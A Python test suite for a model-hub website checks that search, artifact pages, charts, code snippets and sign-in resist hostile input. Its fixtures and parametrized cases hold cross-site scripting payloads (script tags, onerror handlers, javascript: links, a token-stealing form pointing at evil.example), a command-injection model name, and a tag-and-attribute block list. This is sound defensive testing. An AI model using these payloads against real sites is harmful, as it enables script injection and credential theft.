"""The pages: what they show and to whom, and that nothing in a card or a name does anything."""

from __future__ import annotations

import ast
import importlib
import json
import re
import xml.etree.ElementTree as ElementTree
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote, urlencode

import pytest

from cli_helpers import learners
from secondary_learners.content import content
from secondary_learners.server.pages import charts
from secondary_learners.server.pages.artifacts import Artifact, PageSource, read_artifact
from secondary_learners.server.pages.choosing import PAGE, Choice, choose
from secondary_learners.server.pages.evaluation import ComparedArm, Effect
from secondary_learners.server.pages.markdown import card_html
from secondary_learners.server.pages.snippets import snippets_for
from server_helpers import Answer, InProcess, token

HTML = {"Accept": "text/html"}
HOSTILE = """---
license: mit
tags: ["<script>alert(1)</script>"]
---
# <script>alert(document.domain)</script>

<img src=x onerror=alert(1)> <svg onload=alert(1)> <iframe src="https://evil.example"></iframe>
<form action="https://evil.example"><input name=token></form><style>* { display: none }</style>

[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) ![pixel](https://evil.example/p.gif)
<a href="javascript:alert(1)" onclick="alert(1)">x</a> [vb](vbscript:x) <https://ok.example>

| a | b |
|---|---|
| <b onmouseover=alert(1)>1</b> | 2 |
"""


@pytest.fixture
def stocked(hub: InProcess, ann: str) -> InProcess:
    """books-mini and mini as they ship, in team/; a private copy; a data set; a hostile card."""
    for name in ("books-mini", "mini", "secret", "hostile"):
        body = {"name": name, "organization": "team", "private": name == "secret"}
        assert hub.ask("POST", "/api/repos/create", body, ann).status == 200
    body = {"name": "texts", "organization": "team", "type": "dataset"}
    assert hub.ask("POST", "/api/repos/create", body, ann).status == 200
    for name in ("books-mini", "mini"):
        folder = content("learners") / name
        files = {
            path: (folder / path).read_bytes()
            for path in ("config.json", "evaluation.json", "README.md")
        }
        assert hub.commit(ann, files, f"team/{name}").status == 200
        if name == "books-mini":
            assert hub.commit(ann, files, "team/secret").status == 200
    hostile = {"README.md": HOSTILE.encode(), "config.json": b'{"architecture": ["<x>"]}'}
    assert hub.commit(ann, hostile, "team/hostile").status == 200
    return hub


class Tags(HTMLParser):
    """The tags of a page, its links and its text; and that all is closed that was opened."""

    VOID = frozenset(("meta", "link", "input", "br", "hr", "img", "path", "rect", "circle"))

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text, self.open = "", list[str]()
        self.feed(text)
        assert self.open == []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attributes)))
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attributes)))

    def handle_endtag(self, tag: str) -> None:
        assert self.open and self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def links(self) -> list[str]:
        return [str(a["href"]) for _, a in self.tags if a.get("href")]

    def harmless(self) -> bool:
        forbidden = {"script", "iframe", "object", "embed", "style", "base", "img"}
        return not any(
            tag in forbidden
            or any(name.startswith("on") or name == "style" for name in attributes)
            or re.match(r"\s*(javascript|data|vbscript):", attributes.get("href") or "", re.I)
            for tag, attributes in self.tags
        )


def page(answer: Answer) -> Tags:
    assert answer.headers["content-type"].startswith("text/html")
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "unsafe" not in policy and "script" not in policy
    return Tags(answer.body.decode())


class TestList:
    def test_what_it_shows(self, stocked: InProcess) -> None:
        shown = page(stocked.ask("GET", "/"))
        assert {"/team/books-mini", "/team/mini", "/datasets/team/texts"} <= set(shown.links())
        assert "secret" not in shown.text and shown.harmless()
        assert "5.5 %" in shown.text  # measured effect
        assert "Finds text like English novels" in shown.text  # the first words of its card

    @pytest.mark.parametrize(
        ("query", "names"),
        [
            ("q=books", {"team/books-mini"}),
            ("q=BOOKS+general", {"team/books-mini"}),
            ("q=nothing-like-it", set()),
            ("kind=learner", {"team/books-mini"}),
            ("kind=learner&kind=base+model", {"team/books-mini", "team/mini"}),
            ("base=mini", {"team/books-mini"}),
            ("objective=books&architecture=linear", {"team/books-mini"}),
            ("corpus=books%2Bgeneral&license=apache-2.0&language=en", {"team/books-mini"}),
            ("license=mit", {"team/hostile"}),
            ("architecture=conv", set()),
        ],
    )
    def test_search_and_facets(self, stocked: InProcess, query: str, names: set[str]) -> None:
        shown = page(stocked.ask("GET", f"/?{query}"))
        links = {link.removeprefix("/") for link in shown.links() if link.startswith("/team/")}
        assert links == names

    def test_counts_say_what_a_click_would_show(self, stocked: InProcess) -> None:
        shown = page(stocked.ask("GET", "/?license=apache-2.0"))
        facets = [link for link in shown.links() if link.startswith("/?")]
        counts = re.findall(r"(\S+) (\d+)\n", re.sub(r"<[^>]+>", "", shown.text) + "\n")
        assert ("mit", "1") in counts and ("learner", "1") in counts
        for link in facets:
            assert stocked.ask("GET", link).status == 200

    def test_sorting_and_pages(self) -> None:
        many = [
            made(
                f"t/a{n:03}", {"config.json": b"{}"}, date=f"2026-01-{n % 28 + 1:02}", size=999 - n
            )
            for n in range(120)
        ]
        by_size = choose(many, Choice(sort="size"))
        assert [a.name for a in by_size.artifacts][:2] == ["t/a119", "t/a118"]
        by_date = choose(many, Choice(sort="date")).artifacts
        assert by_date[0].source.date.startswith("2026-01-28")
        assert by_size.pages == 3 and len(by_size.page(3).artifacts) == 120 - 2 * PAGE

    @pytest.mark.parametrize(
        "query", ["page=0", "page=99999", "page=x", "sort=x", "kind=", "x=y", "q=%00%ff", "a=" * 99]
    )
    def test_nonsense_is_left_out(self, stocked: InProcess, query: str) -> None:
        assert page(stocked.ask("GET", f"/?{query}")).harmless()

    def test_machines_read_it(self, stocked: InProcess) -> None:
        rows = stocked.ask("GET", "/index.json").json()
        assert {row["name"] for row in rows} == {
            *("team/books-mini", "team/mini", "team/hostile", "datasets/team/texts")
        }
        feed = ElementTree.fromstring(stocked.ask("GET", "/feed.atom").body)
        titles = {row.text for row in feed.iter("{http://www.w3.org/2005/Atom}title")}
        assert "team/books-mini" in titles and "team/secret" not in titles


def made(name: str, readers: dict[str, bytes], date: str = "2026-01-01", size: int = 1) -> Artifact:
    facts = {"size": str(size)}
    return read_artifact(PageSource(name, "", "", date, (), readers, facts=facts), {})


class TestArtifact:
    def test_a_learner(self, stocked: InProcess) -> None:
        shown = page(stocked.ask("GET", "/team/books-mini"))
        for text in (
            "5.5 %",
            "rank correlation on unseen text",
            "0.804",
            "20,000",
            "evaluation.json",
        ):
            assert text in shown.text
        assert sum(tag == "svg" for tag, _ in shown.tags) == 3
        called = "load_learner('team/books-mini', endpoint='http://hub.test')"
        assert called in shown.text and shown.harmless()

    def test_a_hostile_card_does_nothing(self, stocked: InProcess) -> None:
        shown = page(stocked.ask("GET", "/team/hostile"))
        assert shown.harmless()
        assert not any("evil.example" in str(a.get("src")) for _, a in shown.tags)
        outside = [a for tag, a in shown.tags if str(a.get("href")).startswith("http")]
        assert outside and all("noopener" in str(a["rel"]) for a in outside)
        assert not any(tag == "form" and "evil" in str(a) for tag, a in shown.tags)

    @pytest.mark.parametrize(
        "text",
        [
            "[x](JaVaScRiPt:alert(1))",
            "[x](  javascript:alert(1))",
            "[x](java\nscript:alert(1))",
            "<javascript:alert(1)>",
            "[x][1]\n\n[1]: javascript:alert(1)",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "```\n</code></pre><script>alert(1)</script>\n```",
            '[x](http://a "onmouseover=alert(1)")',
            '![x](x" onerror="alert(1))',
            "[" * 5000,
            "> " * 2000 + "x",
        ],
        ids=lambda text: text[:24],
    )
    def test_markdown_that_tries(self, text: str) -> None:
        assert Tags(f"<div>{card_html(text)}</div>").harmless()

    def test_figures_that_are_none(self) -> None:
        nonsense = b'{"fine_tuning": {"rows": [{"perplexity": "x"}, 3, {"perplexity": 1e400}]}}'
        artifact = made("t/x", {"evaluation.json": nonsense, "config.json": b"[" * 100_000})
        assert artifact.measured.runs == () and artifact.effect is None and artifact.facets == {}
        huge = b'{"labels": {"count": 1' + b"0" * 400 + b'}, "parameters": NaN}'
        assert made("t/x", {"evaluation.json": huge}).measured.figures == ()
        deep = json.dumps({"tokens": {"raise": [["x"]] * 5000}, "transfer": {"a": 1}}).encode()
        assert made("t/x", {"evaluation.json": deep}).measured.liked == ()

    def test_what_evaluations_of_format_2_say(self, hub: InProcess, ann: str) -> None:
        held_out = {"spearman": 0.812, "interval": [0.801, 0.823], "domain_variance": 0.214}
        held_out |= {"within": {"books": 0.31}, "keep_rate": {"books": 0.452, "news": 0.021}}
        selectors = [
            {"pool": "mixed", "arm": "DSIR", "perplexity": 118.25, "se": 0.31, "p": 0.0021}
            | {"kept_in_domain": 0.64},
            {"pool": "mixed", "arm": "random", "perplexity": 122.1, "kept_in_domain": None},
            {"pool": 3, "perplexity": "x"},
        ]
        evaluation = {"format": 2, "held_out": {"linear": held_out}, "selectors": selectors}
        config = {"architecture": "linear", "calibration": {}}
        body = {"name": "two", "organization": "team"}
        assert hub.ask("POST", "/api/repos/create", body, ann).status == 200
        files = {"evaluation.json": evaluation, "config.json": config}
        sent = {name: json.dumps(value).encode() for name, value in files.items()}
        assert hub.commit(ann, sent, "team/two").status == 200
        shown = page(hub.ask("GET", "/team/two"))
        assert "0.812 (95 %: 0.801 to 0.823)" in shown.text and "21.4%" in shown.text
        assert "+0.31" in shown.text  # within books
        assert any("books: 45.2 %; news: 2.1 %" in str(a.get("aria-label")) for _, a in shown.tags)
        for text in ("118.25 ± 0.31", "0.0021", "64.0 %", "122.10 ± 0.00"):
            assert text in shown.text
        assert shown.harmless()
        measured = made("t/x", sent).measured
        share = (122.1 - 118.25) / 122.1
        assert measured.baselines == (Effect(share, 0.31 / 122.1, "DSIR (mixed)"),)

    def test_the_histogram_is_of_scores(self) -> None:
        calibration = {"mean": -2.0, "sd": 0.5, "quantiles": [-3.0, -2.0, -1.0]}
        config = json.dumps({"calibration": calibration}).encode()
        assert made("t/x", {"config.json": config}).measured.quantiles == (-2.0, 0.0, 2.0)

    def test_charts_say_their_figures_to_who_cannot_see(self) -> None:
        drawn = charts.runs(
            [ComparedArm("<b>", "filtered", 1.0, 0.5), ComparedArm("y", "random", 2, 0)], "loss"
        )
        assert Tags(drawn).harmless() and "&lt;b&gt;: 1.0 ± 0.5" in drawn
        assert charts.runs([], "") == charts.histogram([1, 1, 1]) == charts.line([(0, 1)], "") == ""
        assert Tags(charts.runs([ComparedArm("x", "", 3.0, 0.0)], "same")).tags

    def test_what_is_not_there(self, stocked: InProcess) -> None:
        missing = stocked.ask("GET", "/team/nothing", headers=HTML)
        assert missing.status == 404 and "sign in" in page(missing).text
        assert stocked.ask("GET", "/team/nothing").json()["error"]
        assert stocked.ask("GET", "/api/nothing").status == 404
        assert stocked.ask("GET", "/team/secret", headers=HTML).status == 404

    @pytest.mark.parametrize("kind", ["learner", "delta", "base model", ""])
    def test_snippets_cannot_be_broken_out_of(self, kind: str) -> None:
        name = "a'); import os; os.system('x') #"
        for snippet in snippets_for(kind, name, "http://h"):
            if snippet.language == "python":
                tree = ast.parse(snippet.text)
                assert repr(name) in snippet.text
                for line in ast.walk(tree):
                    if isinstance(line, ast.ImportFrom):
                        names = set(dir(importlib.import_module(str(line.module))))
                        assert {alias.name for alias in line.names} <= names
            else:
                assert "'\"'\"'" in snippet.text


class TestCompare:
    def test_side_by_side(self, stocked: InProcess) -> None:
        shown = page(stocked.ask("GET", "/compare?a=team/books-mini&a=team/mini&a=team/secret"))
        assert "5.5 %" in shown.text and "There is nothing called team/secret" in shown.text
        assert "Tick two or more" in page(stocked.ask("GET", "/compare?a=team/mini")).text

    def test_boards(self, stocked: InProcess) -> None:
        shown = page(stocked.ask("GET", "/boards"))
        assert "random skipping" in shown.text and "standard, beside team/books-mini" in shown.text
        assert "8.5 %" in shown.text  # books only, against random skipping at the filter's rate


class TestSigningIn:
    def form(self, hub: InProcess) -> tuple[str, str]:
        """(cookie, csrf) of the form."""
        answer = hub.ask("GET", "/login")
        cookie = answer.headers["set-cookie"]
        assert "HttpOnly" in cookie and "SameSite=strict" in cookie
        csrf = next(a["value"] for _, a in page(answer).tags if a.get("name") == "csrf")
        return cookie.partition(";")[0], str(csrf)

    def send(self, hub: InProcess, cookie: str, path: str = "/login", **fields: str) -> Answer:
        return hub.ask("POST", path, urlencode(fields).encode(), headers={"Cookie": cookie})

    def test_members_see_what_is_theirs(self, stocked: InProcess, ann: str, tmp_path: Path) -> None:
        cookie, csrf = self.form(stocked)
        signed_in = self.send(stocked, cookie, csrf=csrf, token=ann)
        assert signed_in.status == 303
        session = signed_in.cookies["learners_session"]
        assert ann not in session
        headers = HTML | {"Cookie": f"learners_session={session}"}
        home = stocked.ask("GET", "/", headers=headers)
        assert "/team/secret" in page(home).links() and "no-cache" in home.headers["cache-control"]
        assert stocked.ask("GET", "/team/secret", headers=headers).status == 200
        # a page that asks for something else with the cookie gets nothing: the API reads no cookie
        assert stocked.ask("GET", "/api/models/team/secret", headers=headers).status == 404
        eve = token(tmp_path / "hub", "eve", "read")
        cookie, csrf = self.form(stocked)
        other = self.send(stocked, cookie, csrf=csrf, token=eve).cookies["learners_session"]
        stranger = HTML | {"Cookie": f"learners_session={other}"}
        assert stocked.ask("GET", "/team/secret", headers=stranger).status == 404
        forged = HTML | {"Cookie": f"learners_session={session[:-2]}xx"}
        assert stocked.ask("GET", "/team/secret", headers=forged).status == 404

    def test_no_form_of_another_site_works(self, stocked: InProcess, ann: str) -> None:
        cookie, csrf = self.form(stocked)
        for sent in (
            self.send(stocked, "", csrf=csrf, token=ann),
            self.send(stocked, cookie, csrf="0" * 64, token=ann),
            self.send(stocked, cookie, token=ann),
            self.send(stocked, "learners_form=mine", csrf=csrf, token=ann),
        ):
            assert sent.status == 403 and "learners_session" not in sent.cookies
        assert self.send(stocked, cookie, csrf=csrf, token="sl_wrong").status == 401

    def test_signing_out(self, stocked: InProcess, ann: str) -> None:
        cookie, csrf = self.form(stocked)
        session = self.send(stocked, cookie, csrf=csrf, token=ann).cookies["learners_session"]
        mine = f"learners_session={session}"
        assert self.send(stocked, mine, "/logout", csrf="x").status == 403
        home = page(stocked.ask("GET", "/", headers=HTML | {"Cookie": mine}))
        out = next(str(a["value"]) for _, a in home.tags if a.get("name") == "csrf")
        left = self.send(stocked, mine, "/logout", csrf=out)
        assert left.status == 303 and left.cookies["learners_session"] in ("", '""')


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The project's own catalogue."""
    out = tmp_path_factory.mktemp("site") / "out"
    built = learners("catalogue", "build", out, "--url", "https://example.org/catalogue")
    assert built.code == 0, built.err
    return out


class TestStatic:
    def test_every_link_leads_somewhere(self, site: Path) -> None:
        pages = list(site.rglob("*.html"))
        assert len(pages) > 20
        for path in pages:
            shown = Tags(path.read_text())
            assert shown.harmless()
            for link in shown.links():
                if not re.match(r"https?:|#|mailto:", link) and "card" not in link:
                    target = path.parent / unquote(link.partition("#")[0])
                    assert target.is_file() or self.is_of_the_card(link), (path, link)

    def is_of_the_card(self, link: str) -> bool:
        return link in {"comparison.png"} or link.startswith(("learners/", "benchmarks/"))

    def test_it_holds_all_that_ships(self, site: Path) -> None:
        rows = json.loads((site / "index.json").read_text())
        names = {path.stem for path in content("registry").glob("*.toml")}
        assert {row["name"] for row in rows} == names
        assert {path.stem for path in (site / "artifacts").iterdir()} == names
        feed = (site / "feed.atom").read_text()
        assert "https://example.org/catalogue/artifacts/books-mini.html" in feed
        learners_page = Tags((site / "kind" / "learner.html").read_text())
        assert "../artifacts/books-mini.html" in learners_page.links()
        assert "../artifacts/mini.html" not in learners_page.links()

    def test_a_folder_in_use_is_left_alone(self, tmp_path: Path) -> None:
        (tmp_path / "thesis.txt").write_text("mine")
        result = learners("catalogue", "build", tmp_path)
        assert result.code == 1 and "not empty" in result.err
        assert list(tmp_path.iterdir()) == [tmp_path / "thesis.txt"]
